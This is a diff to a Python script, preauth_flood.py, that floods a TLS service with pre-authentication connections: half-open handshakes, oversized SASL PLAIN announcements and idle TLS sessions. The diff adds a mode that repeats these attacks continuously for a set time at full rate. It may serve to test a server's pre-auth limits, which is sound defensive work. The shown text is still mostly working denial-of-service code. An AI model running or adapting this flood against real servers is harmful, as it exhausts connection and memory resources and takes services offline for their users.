@@ -2,6 +2,7 @@
 hold them.
 
     python preauth_flood.py HOST:PORT CA_PEM COUNT [SOURCE_IP ...]
+    python preauth_flood.py --for SECONDS HOST:PORT CA_PEM COUNT [SOURCE_IP ...]
 
 Opens COUNT TLS connections (no client certificate; the CA verifies the server) from
 the source addresses in turn, 50 handshakes at a time, each bounded by 30 s; a third of
@@ -10,7 +11,9 @@ start a PLAIN exchange (SaslHandshake) and announce a SaslAuthenticate with a 40
 name, sending as much of it as the server takes, and a third complete TLS and send
 nothing more. Prints one JSON line {"opened": n, "failed": n} once every connection made
 its attack, then every second {"open": n} (connections the server has not closed)
-until its stdin closes; then closes them all."""
+until its stdin closes; then closes them all. With --for, it repeats the attacks for
+SECONDS instead, COUNT connections at a time, each closed once the server closed it
+or after 2 s, and prints {"attacks": n} at the end: the attack at full rate."""
 from __future__ import annotations
 
 import asyncio
@@ -67,13 +70,45 @@ async def attack(i: int, host: str, port: int, ctx: ssl.SSLContext, source: str 
     return reader, writer
 
 
+async def repeat(seconds: float, host: str, port: int, ctx: ssl.SSLContext, count: int, sources: list) -> None:
+    """COUNT attackers, each attacking again as soon as its last attack ended, for `seconds`."""
+    loop = asyncio.get_running_loop()
+    end = loop.time() + seconds
+    done = [0]
+    gate = asyncio.Semaphore(count)
+
+    async def attacker(n: int) -> None:
+        i = n
+        while loop.time() < end:
+            try:
+                reader, writer = await attack(i, host, port, ctx, sources[i % len(sources)], gate)
+                try:
+                    await asyncio.wait_for(reader.read(), 2)
+                except (asyncio.TimeoutError, ConnectionError, OSError, ssl.SSLError):
+                    pass
+                writer.close()
+            except (ConnectionError, OSError, asyncio.TimeoutError, ssl.SSLError):
+                await asyncio.sleep(0.1)
+            done[0] += 1
+            i += count
+    await asyncio.gather(*(attacker(n) for n in range(count)))
+    print(json.dumps({"attacks": done[0]}), flush=True)
+
+
 async def main() -> None:
+    seconds = None
+    if sys.argv[1] == "--for":
+        seconds = float(sys.argv[2])
+        del sys.argv[1:3]
     address, ca, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
     sources = sys.argv[4:] or [None]
     host, port = address.rsplit(":", 1)
     raise_limit(count + 1000)
     ctx = ssl.create_default_context(cafile=ca)
     ctx.check_hostname = False
+    if seconds is not None:
+        await repeat(seconds, host, int(port), ctx, count, sources)
+        return
     gate = asyncio.Semaphore(50)
     results = await asyncio.gather(*(attack(i, host, int(port), ctx, sources[i % len(sources)], gate)
                                      for i in range(count)), return_exceptions=True)
